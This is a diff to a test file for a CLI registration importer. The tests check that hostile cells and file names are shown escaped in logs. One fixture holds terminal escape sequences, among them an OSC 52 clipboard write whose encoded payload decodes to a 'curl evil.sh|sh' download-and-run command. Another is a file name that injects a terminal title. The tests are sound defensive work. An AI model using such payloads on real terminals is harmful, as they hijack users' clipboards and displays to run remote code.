@@ -12,7 +12,7 @@ import { openStore } from '../../src/store/index';
 import { runCli } from '../helpers/runCli';
 import { person, registration } from '../helpers/people';
 import { spawnCliSync } from '../helpers/spawnCli';
-import { tempDir } from '../helpers/tempStore';
+import { tempDir, trustedSeed } from '../helpers/tempStore';
 
 /** OSC 52 (clipboard), CSI (clear screen), C1 CSI, bidi override and isolate, backspaces, zero-width, DEL, CR, BEL. */
 const H = '\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\x1b[H\u009b31m\u202e\u2066\b\b\b\u200b\u200d\u00ad\ufeff\x7f\r';
@@ -203,10 +203,13 @@ describe('hostile cells and file names in the three imports, and the log that ke
   });
 
   it('a file name with escape sequences is stored as it is and shown escaped by every later log', async () => {
-    const store = await hostileStore();
+    // Trusted as caprural's own version: a change on a store whose e-mails were made wrong by hand is refused.
+    const store = join(tempDir(), 'store.json');
+    expect((await runCli(['init'], { store })).code).toBe(0);
+    const env = await trustedSeed(store, seedHostile);
     const file = join(tempDir(), `inscrits\x1b]0;pwned\x07\u202e.csv`);
     writeFileSync(file, 'session;email;received_at;first_name;last_name\ncooperer-leader-n1-2018;zoe@x.fr;01/02/2018;Zoé;Martin\n');
-    const done = await runCli(['register', '--import', file, '--force', '--reason', 'test'], { store });
+    const done = await runCli(['register', '--import', file, '--force', '--reason', 'test'], { store, env });
     expect(done.code, done.stderr).toBe(0);
     expectClean(done, 'register --import');
     const log = await runCli(['log'], { store });
